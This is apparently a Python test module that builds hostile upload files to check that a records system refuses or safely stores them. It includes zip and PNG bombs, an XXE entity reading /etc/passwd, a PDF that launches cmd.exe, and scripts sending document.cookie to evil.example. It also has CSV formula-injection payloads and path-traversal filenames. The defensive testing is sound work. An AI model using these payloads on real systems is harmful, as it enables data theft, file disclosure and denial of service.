"""The hostile-file corpus: each case built on the spot, deterministically, from its id.

Nothing large is committed. A zip bomb is deflated zeros made in memory (100 MB inflates from about
100 KB); the 2 GB file is sparse, made with `truncate` in the test's temporary folder, so it takes no
disk. `FAMILIES` are the kinds of path a file is given to (evidence kept for download, documents read
in, the workforce import, the protective-measures import): a case may build different bytes for a
family (a file with a hostile name carries a good file of that family, a formula CSV is a valid import
file for the importers), and says what must happen to it there: refused, or kept safely.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from enum import StrEnum
from functools import cache
from pathlib import Path

from tests.documents_corpus import encrypted_pdf, javascript_pdf, paragraph_xml, simple_pdf

FAMILIES = ("evidence", "document", "workforce", "protection")
SPARSE_SIZE = 2 * 1024**3  # 2 GB on paper, nothing on disk


class Outcome(StrEnum):
    REFUSED = "refused"  # a clear message, nothing written, nothing stored
    KEPT_AS_TEXT = "kept as text"  # valid data: formulas stored as text, exported escaped
    KEPT_RENAMED = "kept renamed"  # a good file: listed under its own name cleaned, stored under its SHA-256


@dataclass(frozen=True)
class Hostile:
    id: str
    what: str
    name: str  # the file's name; "{ext}" is replaced by the family's good extension
    build: Callable[[str], bytes]  # family -> the bytes
    sparse: bool = False  # made on disk with truncate, never in memory
    kept: tuple[str, ...] = ()  # families where the file is kept safely rather than refused
    kept_as: Outcome = Outcome.REFUSED

    def outcome(self, family: str) -> Outcome:
        return self.kept_as if family in self.kept else Outcome.REFUSED

    def filename(self, family: str) -> str:
        return self.name.replace("{ext}", GOOD_EXTENSION[family])

    def write(self, folder: Path, family: str) -> Path:
        """The case as a file on disk (for the commands), named as the case names it where the system allows."""
        # A name on disk may hold anything but a slash or NUL (control characters and backslashes included).
        path = folder / (self.filename(family).replace("/", "_").replace("\x00", "_")[-200:] or "file")
        if self.sparse:
            with path.open("wb") as file:
                file.truncate(SPARSE_SIZE)
        else:
            path.write_bytes(self.build(family))
        return path


# --- good files, one per family -------------------------------------------------------------------

GOOD_EXTENSION = {"evidence": "pdf", "document": "pdf", "workforce": "csv", "protection": "csv"}
WORKFORCE_HEADER = [
    "record", "staff_number", "name", "kind", "rank_or_grade", "role", "unit", "area", "service_start",
    "works_with_vulnerable", "started_on", "ended_on", "manager_staff_number", "other_staff_number",
    "association_kind", "declared_on", "note", "case_reference", "case_role",
]  # fmt: skip
PROTECTION_HEADER = [
    "record", "reference", "measure_type", "restrained_name", "restrained_staff_number", "authorised_by_name",
    "authorised_by_rank", "court", "made_at", "served_at", "hearing_at", "ends_on", "until_further_order",
    "reported_at", "reported_by", "description", "response", "arrest_at",
]  # fmt: skip
# Cells a spreadsheet would run, each written as the first character of a text field.
FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"Open")', "+cmd|' /C calc'!A0", "-1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=3+4"]  # fmt: skip


def _csv(header: list[str], rows: list[dict[str, str]]) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=header, lineterminator="\r\n", restval="")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def workforce_csv(names: list[str] | None = None) -> bytes:
    """A unit and one person in it per name: a file the workforce import accepts."""
    rows = [{"record": "unit", "unit": "Hostile Files Unit", "area": "Walsall"}]
    for index, name in enumerate(names or ["Alex Good"]):
        rows.append({"record": "person", "staff_number": f"HF{index:04d}", "name": name, "kind": "officer",
                     "rank_or_grade": "PC", "unit": "Hostile Files Unit", "area": "Walsall"})  # fmt: skip
    return _csv(WORKFORCE_HEADER, rows)


def protection_csv(names: list[str] | None = None) -> bytes:
    """A notice per name restraining that person: a file the protective-measures import accepts."""
    rows = [
        {"record": "measure", "reference": f"HF/{index}", "measure_type": "DVPN", "restrained_name": name,
         "authorised_by_name": "Supt Khan", "authorised_by_rank": "Supt", "made_at": "2026-11-20 10:00",
         "served_at": "2026-11-20 11:00", "hearing_at": "2026-11-21 10:00"}
        for index, name in enumerate(names or ["Alex Good"])
    ]  # fmt: skip
    return _csv(PROTECTION_HEADER, rows)


GOOD_TEXT = "Recommendation 1: the force should review its training within six months."


def good_file(family: str) -> bytes:
    if family == "workforce":
        return workforce_csv()
    if family == "protection":
        return protection_csv()
    return simple_pdf([[GOOD_TEXT]])


def huge_field(family: str) -> bytes:
    """One quoted field of 5 MB: past what the csv module reads, held by nothing that reads it."""
    header = {"workforce": WORKFORCE_HEADER, "protection": PROTECTION_HEADER}.get(family, ["name", "note"])
    line = ",".join(header).encode() + b"\r\n" + b'"' + b"x" * (5 * 1024 * 1024) + b'"' + b"," * (len(header) - 1)
    return line + b"\r\n"


def formula_file(family: str) -> bytes:
    if family == "workforce":
        return workforce_csv(FORMULAS)
    if family == "protection":
        return protection_csv(FORMULAS)
    return _csv(["name", "note"], [{"name": formula, "note": "x"} for formula in FORMULAS])


# --- zips -----------------------------------------------------------------------------------------

WORD_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
WHEN = (2024, 1, 1, 0, 0, 0)  # every entry's date, so the same case is the same bytes on every run


def zip_with(parts: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as zipped:
        for name, data in parts.items():
            zipped.writestr(zipfile.ZipInfo(name, WHEN), data, compress_type=compression)
    return out.getvalue()


def docx_with_body(body_xml: str, *, prolog: str = "") -> bytes:
    """A minimal Word document whose document.xml holds `body_xml`, and `prolog` before its root."""
    document = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body>{body_xml}</w:body></w:document>"
    )
    return zip_with({"[Content_Types].xml": WORD_TYPES, "word/document.xml": document.encode()})


@cache
def _zeros_zip(part: str, size: int, *others: str) -> bytes:
    """A zip whose `part` inflates to `size` bytes of zeros, written in chunks (never held whole)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zipped:
        for other in others:
            zipped.writestr(zipfile.ZipInfo(other, WHEN), b"<x/>", compress_type=zipfile.ZIP_DEFLATED)
        info = zipfile.ZipInfo(part, WHEN)
        info.compress_type = zipfile.ZIP_DEFLATED  # a ZipInfo is stored uncompressed unless told
        with zipped.open(info, "w", force_zip64=True) as target:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(size // len(chunk)):
                target.write(chunk)
    return out.getvalue()


def docx_bomb(_: str) -> bytes:
    return _zeros_zip("word/document.xml", 100 * 1024 * 1024, "[Content_Types].xml")


def xlsx_bomb(_: str) -> bytes:
    return _zeros_zip("xl/worksheets/sheet1.xml", 100 * 1024 * 1024, "[Content_Types].xml", "xl/workbook.xml")


def _declare_small(data: bytes, name: str) -> bytes:
    """The zip with `name`'s uncompressed size rewritten as 1,000 bytes in both headers: a lying bomb."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    info = archive.getinfo(name)
    patched = bytearray(data)
    patched[info.header_offset + 22 : info.header_offset + 26] = (1000).to_bytes(4, "little")
    directory = data.rfind(b"PK\x01\x02")
    patched[directory + 24 : directory + 28] = (1000).to_bytes(4, "little")
    return bytes(patched)


def docx_lying_bomb(_: str) -> bytes:
    body = (b"<w:document><w:body>" + paragraph_xml("x" * 1000).encode() * 3000) + b"</w:body></w:document>"
    honest = zip_with({"word/document.xml": body, "[Content_Types].xml": WORD_TYPES})
    return _declare_small(honest, "word/document.xml")


def many_entries(main: str) -> Callable[[str], bytes]:
    def build(_: str) -> bytes:
        parts = {f"junk/{number}.xml": b"" for number in range(6000)}
        return zip_with({main: b"<x/>", **parts}, compression=zipfile.ZIP_STORED)

    return build


XXE = '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE r [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)


def docx_prolog(prolog: str, entity: str) -> Callable[[str], bytes]:
    return lambda _: docx_with_body(paragraph_xml(entity), prolog=prolog)


def xlsx_prolog(prolog: str, entity: str) -> Callable[[str], bytes]:
    def build(_: str) -> bytes:
        sheet = (
            f'<?xml version="1.0"?>{prolog}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
            f'main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{entity}</t></is></c></row></sheetData>'
            "</worksheet>"
        )
        return _workbook({"xl/worksheets/sheet1.xml": sheet.encode()})

    return build


def _workbook(extra: dict[str, bytes]) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(PROTECTION_HEADER)
    book.properties.created = book.properties.modified = dt.datetime(2024, 1, 1)
    out = io.BytesIO()
    book.save(out)
    original = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    parts = {name: original.read(name) for name in original.namelist()} | extra
    return zip_with(parts)


def office_with_macros(main: str, macro: str) -> Callable[[str], bytes]:
    return lambda _: zip_with({"[Content_Types].xml": WORD_TYPES, main: b"<x/>", macro: b"\x00VBA macro"})


def xlsx_with_macros(_: str) -> bytes:
    return _workbook({"xl/vbaProject.bin": b"\x00VBA macro"})


def zip_flagged_encrypted(_: str) -> bytes:
    """A Word document whose zip entries say they are encrypted (the flag traditional zip encryption sets)."""
    data = bytearray(docx_with_body(paragraph_xml("Secret")))
    at = 0
    while (at := data.find(b"PK\x03\x04", at)) >= 0:
        data[at + 6] |= 0x1
        at += 4
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 8] |= 0x1
        at += 4
    return bytes(data)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def ole_encrypted(_: str) -> bytes:
    """What Office saves when a workbook has a password: an OLE file holding EncryptionInfo."""
    return OLE + b"\x00" * 56 + "EncryptionInfo".encode("utf-16-le") + b"\x00" * 400


# --- PDFs, images, markup -------------------------------------------------------------------------


def pdf_encrypted(_: str) -> bytes:
    """An RC4-encrypted PDF whose file identifier (random in pypdf) is fixed, so its bytes never change."""
    from unittest import mock

    with mock.patch("pypdf._writer.secrets.token_bytes", lambda size: b"\x07" * size):
        return encrypted_pdf()


def _pdf(_: str) -> bytes:
    return simple_pdf([[GOOD_TEXT]])


def pdf_launch(_: str) -> bytes:
    action = "/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"
    return simple_pdf([[GOOD_TEXT]], catalog_extra=action)


def pdf_embedded_file(_: str) -> bytes:
    names = "/Names << /EmbeddedFiles << /Names [(payload.exe) << /Type /Filespec /F (payload.exe) >>] >> >>"
    return simple_pdf([[GOOD_TEXT]], catalog_extra=names)


def pdf_javascript_names(_: str) -> bytes:
    names = "/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>"
    return simple_pdf([[GOOD_TEXT]], catalog_extra=names)


def png(_: str = "") -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(out, "PNG")
    return out.getvalue()


def png_bomb(_: str) -> bytes:
    """A PNG whose header declares 100,000 x 100,000 pixels: 30 GB once decoded."""
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


SCRIPT_PAGE = b"<html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">'
    b"<script>fetch('https://evil.example/'+document.cookie)</script><text>Chart</text></svg>"
)
A_ZIP = zip_with({"payload.exe": b"MZ\x90\x00" + b"\x00" * 100})


def _bytes(data: bytes) -> Callable[[str], bytes]:
    return lambda _: data


def _cut(fraction: float) -> Callable[[str], bytes]:
    return lambda _: _pdf("")[: int(len(_pdf("")) * fraction)]


# --- the corpus -----------------------------------------------------------------------------------

IMPORTS = ("workforce", "protection")
EVERY = FAMILIES

CORPUS: tuple[Hostile, ...] = (
    Hostile("docx-zip-bomb", "Word document whose document.xml inflates to 100 MB of zeros from ~100 KB", "bomb.docx",
            docx_bomb),
    Hostile("docx-lying-zip-bomb", "Word document whose zip declares 1,000 bytes for a 3 MB part", "liar.docx",
            docx_lying_bomb),
    Hostile("docx-6000-entries", "Word document zip with 6,000 entries", "many.docx",
            many_entries("word/document.xml")),
    Hostile("xlsx-zip-bomb", "Excel workbook whose sheet inflates to 100 MB of zeros", "bomb.xlsx", xlsx_bomb),
    Hostile("xlsx-6000-entries", "Excel workbook zip with 6,000 entries", "many.xlsx", many_entries("xl/workbook.xml")),
    Hostile("docx-xxe", "Word document with an external entity reading /etc/passwd", "xxe.docx",
            docx_prolog(XXE, "&xxe;")),
    Hostile("docx-billion-laughs", "Word document with nested entities (billion laughs)", "laughs.docx",
            docx_prolog(LAUGHS, "&d;")),
    Hostile("xlsx-xxe", "Excel workbook whose sheet has an external entity", "xxe.xlsx", xlsx_prolog(XXE, "&xxe;")),
    Hostile("xlsx-billion-laughs", "Excel workbook whose sheet has nested entities", "laughs.xlsx",
            xlsx_prolog(LAUGHS, "&d;")),
    Hostile("docx-with-macros", "Word document carrying vbaProject.bin", "macros.docx",
            office_with_macros("word/document.xml", "word/vbaProject.bin")),
    Hostile("xlsm-macro-workbook", "macro-enabled workbook (.xlsm)", "macros.xlsm", xlsx_with_macros),
    Hostile("xlsx-with-macros", "workbook called .xlsx carrying vbaProject.bin", "macros.xlsx", xlsx_with_macros),
    Hostile("docx-zip-encrypted", "Word document whose zip entries are flagged encrypted", "locked.docx",
            zip_flagged_encrypted),
    Hostile("xlsx-office-encrypted", "password-protected workbook (an OLE file) called .xlsx", "locked.xlsx",
            ole_encrypted),
    Hostile("pdf-encrypted", "PDF with a user password", "secret.pdf", pdf_encrypted),
    Hostile("pdf-truncated", "PDF cut off at a third", "cut.pdf", _cut(1 / 3)),
    Hostile("pdf-header-only", "a PDF header followed by garbage", "garbage.pdf",
            _bytes(b"%PDF-1.7\n" + b"\x00garbage" * 100)),
    Hostile("pdf-javascript", "PDF that runs JavaScript when opened (OpenAction)", "active.pdf",
            lambda _: javascript_pdf()),
    Hostile("pdf-javascript-names", "PDF with a document-level JavaScript name tree", "script.pdf",
            pdf_javascript_names),
    Hostile("pdf-launch", "PDF that launches cmd.exe when opened", "launch.pdf", pdf_launch),
    Hostile("pdf-embedded-file", "PDF carrying an attached program", "attached.pdf", pdf_embedded_file),
    Hostile("polyglot-pdf-zip", "a valid PDF with a zip archive appended (both at once)", "both.pdf",
            lambda _: _pdf("") + A_ZIP),
    Hostile("polyglot-png-zip", "a valid PNG with a zip archive appended", "both.png", lambda _: png() + A_ZIP),
    Hostile("polyglot-png-html", "a valid PNG with a script page after its end", "both.png",
            lambda _: png() + SCRIPT_PAGE),
    Hostile("png-pixel-bomb", "PNG declaring 100,000 x 100,000 pixels", "huge.png", png_bomb),
    Hostile("svg-with-script", "SVG image with an onload handler and a script", "chart.svg", _bytes(SVG)),
    Hostile("svg-as-txt", "the same SVG called .txt", "chart.txt", _bytes(SVG)),
    Hostile("html-script-as-txt", "a web page with a script called .txt", "notes.txt", _bytes(SCRIPT_PAGE)),
    Hostile("exe-as-pdf", "a Windows program called .pdf", "report.pdf", _bytes(b"MZ\x90\x00\x03" + b"\x00" * 500)),
    Hostile("elf-as-csv", "a Linux program called .csv", "export.csv", _bytes(b"\x7fELF\x02\x01\x01" + b"\x00" * 500)),
    Hostile("zip-as-csv", "a zip archive called .csv", "export.csv", _bytes(A_ZIP)),
    Hostile("html-as-docx", "a web page called .docx", "paper.docx", _bytes(SCRIPT_PAGE)),
    Hostile("png-as-xlsx", "a PNG image called .xlsx", "export.xlsx", lambda _: png()),
    Hostile("sparse-2gb-csv", "a 2 GB sparse file called .csv", "huge.csv", _bytes(b""), sparse=True),
    Hostile("sparse-2gb-pdf", "a 2 GB sparse file called .pdf", "huge.pdf", _bytes(b""), sparse=True),
    Hostile("empty-file", "a file of no bytes", "empty.{ext}", _bytes(b"")),
    Hostile("name-unix-traversal", "a good file named ../../../etc/cron.d/evil", "../../../etc/cron.d/evil.{ext}",
            good_file, kept=EVERY, kept_as=Outcome.KEPT_RENAMED),
    Hostile("name-windows-traversal", "a good file named ..\\..\\Windows\\System32\\evil", "..\\..\\Windows\\"
            "System32\\evil.{ext}", good_file, kept=EVERY, kept_as=Outcome.KEPT_RENAMED),
    Hostile("name-control-characters", "a good file whose name has a terminal escape, CR, LF and BEL",
            "report\x1b[31m\r\n\x07.{ext}", good_file, kept=EVERY, kept_as=Outcome.KEPT_RENAMED),
    Hostile("name-400-characters", "a good file with a 400-character name", "a" * 400 + ".{ext}", good_file,
            kept=EVERY, kept_as=Outcome.KEPT_RENAMED),
    Hostile("csv-formula-injection", "CSV cells starting =HYPERLINK, +cmd, -1+1, @SUM, tab and CR", "formulas.csv",
            formula_file, kept=IMPORTS, kept_as=Outcome.KEPT_AS_TEXT),
    Hostile("csv-nul-bytes", "CSV with NUL bytes in it", "nul.csv", _bytes(b"name,note\r\nA\x00B,x\r\n" * 20)),
    Hostile("csv-utf16-no-bom", "CSV saved as UTF-16 without a byte-order mark (every other byte NUL)", "wide.csv",
            _bytes("name,note\r\nAlex,x\r\n".encode("utf-16-le"))),
    Hostile("csv-5mb-field", "CSV with one 5 MB quoted field (in the import's own columns for the imports)",
            "field.csv", huge_field),
)  # fmt: skip


def by_id(case_id: str) -> Hostile:
    return next(case for case in CORPUS if case.id == case_id)
